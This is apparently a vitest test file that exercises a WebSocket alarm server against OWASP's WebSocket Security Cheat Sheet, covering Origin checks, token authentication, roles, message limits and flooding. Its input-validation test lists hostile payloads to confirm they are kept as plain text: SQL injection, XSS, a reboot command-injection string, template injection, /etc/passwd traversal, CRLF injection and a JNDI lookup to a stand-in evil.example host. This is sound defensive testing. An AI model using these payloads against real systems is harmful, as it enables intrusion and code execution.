/**
 * OWASP's WebSocket Security Cheat Sheet, a test a line, on a real engine over real sockets. What other tests try more
 * closely is named there; TLS is tried in tls.test.ts, what is logged in logging.test.ts.
 */
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { connect } from "node:net";
import { describe, expect, test, vi } from "vitest";
import { limits } from "../../machines/limits.ts";
import { ManualClock } from "../alarms/manual-clock.ts";
import { textOf } from "../alarms/rig.ts";
import { ask, type Guarded, Peer, type RoleName, startGuarded, tokenLines, tokens, upgrade } from "./rig.ts";

vi.setConfig({ testTimeout: 60_000 });

const sockets = [
  { path: "/v1/alarms", role: "source", protocols: ["cloudevents.json"] },
  { path: "/v1/feed", role: "viewer", protocols: ["cloudevents.json"] },
  { path: "/inspect", role: "viewer", protocols: [] },
] as const satisfies readonly { path: string; role: RoleName; protocols: readonly string[] }[];

/** What the port says to these bytes, to the end of the connection. */
async function raw(at: Guarded, text: string): Promise<string> {
  const socket = connect(at.port, "127.0.0.1");
  let said = "";
  socket.on("data", (chunk: Buffer) => (said += chunk.toString("latin1")));
  socket.on("error", () => undefined);
  socket.end(text);
  await once(socket, "close");
  return said;
}

describe("transport", () => {
  test("RFC 6455 only: the drafts before it (version 7, 8, 0, and Hixie without any) are not spoken", async () => {
    const at = await startGuarded();
    const head = (more: string) =>
      `GET /v1/alarms HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: WebSocket\r\n` +
      `Authorization: Bearer ${tokens.source}\r\nSec-WebSocket-Protocol: cloudevents.json\r\n${more}\r\n`;
    const key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
    for (const version of ["0", "7", "14"])
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      expect(await raw(at, head(`${key}Sec-WebSocket-Version: ${version}\r\n`))).toMatch(
        /^HTTP\/1\.1 4\d\d /,
      );
    const hixie = "Sec-WebSocket-Key1: 4 @1  46546xW%0l 1 5\r\nSec-WebSocket-Key2: 12998 5 Y3 1  .P00\r\n";
    expect(await raw(at, head(hixie))).toMatch(/^HTTP\/1\.1 4\d\d /);
  });

  test.each(sockets)("$path: compression that is offered is not taken", async ({ path, role, protocols }) => {
    const peer = new Peer(await startGuarded(), path, { as: role, protocols });
    await peer.status;
    // `ws` offers permessage-deflate by itself.
    expect(peer.webSocket.extensions).toBe("");
  });

  test("behind a proxy: the Host and the Origin of publicUrl are let in, and no other by its headers", async () => {
    const at = await startGuarded({ config: { listen: { publicUrl: "https://noc.example/tickets" } } });
    const headers = { host: "noc.example", origin: "https://noc.example" };
    expect(await upgrade(at, "/v1/feed", { as: "viewer", headers })).toBe(101);
    const forwarded = {
      host: "evil.example",
      "x-forwarded-host": "noc.example",
      forwarded: "host=noc.example",
    };
    expect(await upgrade(at, "/v1/feed", { as: "viewer", headers: forwarded })).toBe(403);
  });
});

describe("S2: cross-site WebSocket hijacking", () => {
  const allowed = "https://noc.example";
  const foreign = [
    "https://evil.example",
    "null",
    "http://noc.example",
    "https://noc.example:8443",
    "https://noc.example.evil.example",
    "https://evilnoc.example",
    "https://noc.example@evil.example",
    "https://sub.noc.example",
    "https://noc.example/",
    "file://",
    "*",
    "",
  ];

  test.each(sockets)("$path: an Origin is let in by name alone, whole", async ({ path, role, protocols }) => {
    const at = await startGuarded({ config: { listen: { allowedOrigins: [allowed] } } });
    const ofOrigin = (origin: string) => upgrade(at, path, { as: role, protocols, headers: { origin } });
    expect(await ofOrigin(allowed)).toBe(101);
    // oxlint-disable-next-line no-await-in-loop -- one after the other
    for (const origin of foreign) expect([origin, await ofOrigin(origin)]).toEqual([origin, 403]);
  });

  test.each(sockets)(
    "$path: a browser's cookies open nothing, and none is ever set",
    async ({ path, protocols }) => {
      const at = await startGuarded({ config: { listen: { allowedOrigins: [allowed] } } });
      const headers = { cookie: `session=${tokens.operator}; token=${tokens.source}`, origin: allowed };
      const peer = new Peer(at, path, { protocols, headers });
      const refusal = await peer.refusal;
      expect(refusal.statusCode).toBe(401);
      expect(refusal.headers["set-cookie"]).toBeUndefined();
      expect((await ask(at, "/", { as: "operator" })).headers["set-cookie"]).toBeUndefined();
    },
  );
});

describe("S1: authentication and authorisation", () => {
  test.each(sockets)(
    "$path: at the upgrade, before a byte of the WebSocket is read",
    async ({ path, role, protocols }) => {
      const at = await startGuarded();
      const of = (headers: Readonly<Record<string, string>>) => upgrade(at, path, { protocols, headers });
      expect(await of({})).toBe(401);
      expect(await of({ authorization: "Bearer wrong" })).toBe(401);
      expect(await of({ authorization: `Bearer ${tokens[role]} ` })).toBe(101);
      expect(await of({ authorization: `Bearer ${tokens[role].toUpperCase()}` })).toBe(401);
      expect(await of({ authorization: tokens[role] })).toBe(401);
      // The digest that stands in the file is no token.
      expect(await of({ authorization: `Bearer ${/source-1:(\w+)/.exec(tokenLines())?.[1] ?? ""}` })).toBe(
        401,
      );
    },
  );

  test.each(sockets)(
    "$path: a token in the address is none: addresses end in logs",
    async ({ path, role, protocols }) => {
      const at = await startGuarded();
      const query = `?token=${tokens[role]}&access_token=${tokens[role]}&authorization=Bearer%20${tokens[role]}`;
      expect(await upgrade(at, path + query, { protocols })).toBe(401);
    },
  );

  test("a page gives its token as a subprotocol, which is not said back", async () => {
    const at = await startGuarded();
    const bearer = `bearer.${Buffer.from(tokens.viewer).toString("base64url")}`;
    const peer = new Peer(at, "/v1/feed", { protocols: ["cloudevents.json", bearer] });
    expect(await peer.status).toBe(101);
    expect(peer.webSocket.protocol).toBe("cloudevents.json");
  });

  test("by role: only sources send alarms, only viewers and operators read, on every socket", async () => {
    const at = await startGuarded();
    const open: string[] = [];
    for (const { path, protocols } of sockets)
      for (const as of ["viewer", "operator", "source"] as const)
        // oxlint-disable-next-line no-await-in-loop -- one after the other
        if ((await upgrade(at, path, { as, protocols })) === 101) open.push(`${path} ${as}`);
    expect(open).toEqual([
      "/v1/alarms source",
      "/v1/feed viewer",
      "/v1/feed operator",
      "/inspect viewer",
      "/inspect operator",
    ]);
  });

  test("by message: who may read may not speak; what a reader says closes 1008 and changes nothing", async () => {
    const at = await startGuarded();
    for (const { path, protocols } of sockets.slice(1)) {
      const reader = new Peer(at, path, { as: "operator", protocols });
      await reader.status; // oxlint-disable-line no-await-in-loop -- one after the other
      reader.webSocket.send(textOf());
      expect(await reader.closed).toBe(1008); // oxlint-disable-line no-await-in-loop
    }
    expect(at.engine.supervisor.counters().accepted).toBe(0);
  });

  test("a token withdrawn from the file, or changed, ends its sockets at their next ping; others stay", async () => {
    const clock = new ManualClock();
    const at = await startGuarded({ clock });
    const peers = await Promise.all(
      sockets.map(async ({ path, role, protocols }) => {
        const peer = new Peer(at, path, { as: role, protocols });
        expect(await peer.status).toBe(101);
        return peer;
      }),
    );
    const operator = new Peer(at, "/v1/feed", { as: "operator" });
    await operator.status;
    writeFileSync(
      at.tokensFile,
      tokenLines({ operator: tokens.operator, source: "another", viewer: "another-one" }),
    );
    // Read again, and then pinged: both are due at once.
    clock.advance(Math.max(limits.tokensRereadMs, limits.pingIntervalMs));
    expect(await Promise.all(peers.map(({ closed }) => closed))).toEqual([4401, 4401, 4401]);
    expect(operator.webSocket.readyState).toBe(1);
    expect((await ask(at, "/api/clients", { as: "viewer" })).status).toBe(401);
    expect((await ask(at, "/api/clients", { headers: { authorization: "Bearer another-one" } })).status).toBe(
      200,
    );
  });

  test("a file of tokens that has become unreadable keeps the old ones, and says so without repeating it", async () => {
    const clock = new ManualClock();
    const at = await startGuarded({ clock });
    writeFileSync(at.tokensFile, "viewer:ann:the-token-itself\n");
    clock.advance(limits.tokensRereadMs);
    clock.advance(limits.tokensRereadMs);
    expect((await ask(at, "/api/clients", { as: "viewer" })).status).toBe(200);
    const said = at.logged.filter((line) => line.includes("tokens.kept"));
    expect(said).toHaveLength(1);
    expect(said[0]).toContain("line 1");
    expect(said[0]).not.toContain("the-token-itself");
  });
});

describe("input validation", () => {
  const payloads = [
    "'; DROP TABLE facts; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "$(reboot)`reboot`;|reboot",
    "{{constructor.constructor('return process')()}}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:a=b",
    "${jndi:ldap://evil.example/a}",
    "]]></summary><evil/>",
  ];

  test("S10: what could be SQL, markup, a command or a template is kept and told as the text it is", async () => {
    const at = await startGuarded();
    const feed = new Peer(at, "/v1/feed?types=alarm.accepted", { as: "viewer" });
    await feed.text();
    const sender = new Peer(at, "/v1/alarms", { as: "source" });
    await sender.text();
    for (const [index, text] of payloads.entries()) {
      const alarm = { alarmedObject: { id: text }, probableCause: text, specificProblem: text };
      sender.webSocket.send(textOf({ id: `${index}`, alarm }));
      expect(await sender.text()).toContain("ack.accepted"); // oxlint-disable-line no-await-in-loop -- one after the other
      // oxlint-disable-next-line no-await-in-loop
      const told = JSON.parse(await feed.text()) as {
        data: { notification: { key: string; probableCause: string } };
      };
      expect(told.data.notification).toMatchObject({ key: text, probableCause: text });
      // oxlint-disable-next-line no-await-in-loop
      const said = await ask(at, `/api/explain?key=${encodeURIComponent(text)}`, { as: "viewer" });
      expect(said.status).toBe(200);
      expect(said.headers["content-type"]).toContain("application/json");
      expect(said.headers["x-content-type-options"]).toBe("nosniff");
    }
    expect(at.engine.supervisor.counters().accepted).toBe(payloads.length);
  });

  test("JSON is parsed, not evaluated; what is none closes 4400", async () => {
    const at = await startGuarded();
    for (const text of ["(function(){globalThis.hacked=1})()", "globalThis.hacked=1", "import('node:fs')"]) {
      const sender = new Peer(at, "/v1/alarms", { as: "source" });
      await sender.text(); // oxlint-disable-line no-await-in-loop -- one after the other
      sender.webSocket.send(text);
      expect(await sender.closed).toBe(4400); // oxlint-disable-line no-await-in-loop
    }
    expect("hacked" in globalThis).toBe(false);
  });

  test("a binary message closes 1003", async () => {
    const sender = new Peer(await startGuarded(), "/v1/alarms", { as: "source" });
    await sender.text();
    sender.webSocket.send(Buffer.from(textOf()), { binary: true });
    expect(await sender.closed).toBe(1003);
  });

  test("S3: a message at 64 KiB is read, one byte more closes 1009, on every socket", async () => {
    const at = await startGuarded();
    const filled = (bytes: number) => {
      const empty = textOf({ event: { filling: "" } });
      return textOf({ event: { filling: "x".repeat(bytes - empty.length) } });
    };
    const sender = new Peer(at, "/v1/alarms", { as: "source" });
    await sender.text();
    sender.webSocket.send(filled(limits.alarmBytesMax - 1));
    sender.webSocket.send(filled(limits.alarmBytesMax));
    expect(await sender.text()).toContain("ack.accepted");
    expect(await sender.text()).toMatch(/ack\.(?:accepted|rejected)/);
    for (const { path, role, protocols } of sockets) {
      const peer = new Peer(at, path, { as: role, protocols });
      await peer.status; // oxlint-disable-line no-await-in-loop -- one after the other
      peer.webSocket.send(filled(limits.alarmBytesMax + 1));
      expect([path, await peer.closed]).toEqual([path, 1009]); // oxlint-disable-line no-await-in-loop
    }
  });
});

test("no tunnel: CONNECT, a foreign address and an unknown path lead nowhere", async () => {
  const at = await startGuarded();
  expect(await raw(at, "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n")).not.toMatch(
    /^HTTP\/1\.1 2/,
  );
  const proxied = await raw(
    at,
    "GET http://127.0.0.1:22/ HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
  );
  expect(proxied).toMatch(/^HTTP\/1\.1 404 /);
  for (const path of ["/", "/api/clients", "/v1/alarms/", "/v1/tcp", "/V1/ALARMS"])
    expect([path, await upgrade(at, path, { as: "source" })]).toEqual([path, 404]); // oxlint-disable-line no-await-in-loop
});

describe("S3: denial of service", () => {
  test("messages faster than they are kept are refused for now beyond the window, and the rest is kept", async () => {
    const at = await startGuarded();
    const sender = new Peer(at, "/v1/alarms", { as: "source" });
    await sender.text();
    // More than that, and what is refused may itself be too much to queue: closed 1013.
    const sent = limits.inFlightPerConnectionMax * 2;
    for (let n = 0; n < sent; n += 1) sender.webSocket.send(textOf({ id: `${n}`, source: `urn:${n % 8}` }));
    let accepted = 0;
    for (let n = 0; n < sent; n += 1) {
      const text = await sender.text(); // oxlint-disable-line no-await-in-loop -- one after the other
      if (text.includes("ack.accepted")) accepted += 1;
      else expect(text).toContain('"OVERLOADED"');
    }
    expect(accepted).toBeGreaterThanOrEqual(limits.inFlightPerConnectionMax);
    expect(at.engine.supervisor.counters().accepted).toBe(accepted);
  });

  test("pings and pongs nobody asked for, over so many an interval, close 1008 on every socket", async () => {
    const at = await startGuarded();
    for (const { path, role, protocols } of sockets)
      for (const flood of ["ping", "pong"] as const) {
        const peer = new Peer(at, path, { as: role, protocols });
        await peer.status; // oxlint-disable-line no-await-in-loop -- one after the other
        for (let n = 0; n <= limits.pingsPerIntervalMax; n += 1) peer.webSocket[flood]();
        expect([path, flood, await peer.closed]).toEqual([path, flood, 1008]); // oxlint-disable-line no-await-in-loop
      }
  });

  test("a dead peer is found by two pings without a pong and cut off; a silent one that answers may stay", async () => {
    const clock = new ManualClock();
    const at = await startGuarded({ clock });
    const open = (autoPong: boolean) =>
      Promise.all(
        sockets.map(async ({ path, role, protocols }) => {
          const peer = new Peer(at, path, { as: role, protocols, autoPong });
          expect(await peer.status).toBe(101);
          return peer;
        }),
      );
    const dead = await open(false);
    const silent = await open(true);
    for (let interval = 0; interval < 3; interval += 1) {
      const heard = interval < 2 ? silent.map(({ webSocket }) => once(webSocket, "ping")) : [];
      clock.advance(limits.pingIntervalMs);
      await Promise.all(heard); // oxlint-disable-line no-await-in-loop -- one after the other
      // Whatever is asked and answered now is asked after the pongs were read.
      await ask(at, "/healthz"); // oxlint-disable-line no-await-in-loop
    }
    expect(await Promise.all(dead.map(({ closed }) => closed))).toEqual([1006, 1006, 1006]);
    expect(silent.map(({ webSocket }) => webSocket.readyState)).toEqual([1, 1, 1]);
  });

  test("an upgrade that never ends its headers, and one that says nothing, hold no place for ever: Node's time-outs are set", async () => {
    const at = await startGuarded();
    const socket = connect(at.port, "127.0.0.1");
    socket.write("GET /v1/alarms HTTP/1.1\r\nHost: 127.0.0.1\r\n");
    let said = "";
    socket.on("data", (chunk: Buffer) => (said += chunk.toString()));
    socket.write(`long: ${"x".repeat(limits.httpHeaderBytesMax)}`);
    await once(socket, "close");
    expect(said).toMatch(/^HTTP\/1\.1 431 /);
  });
});
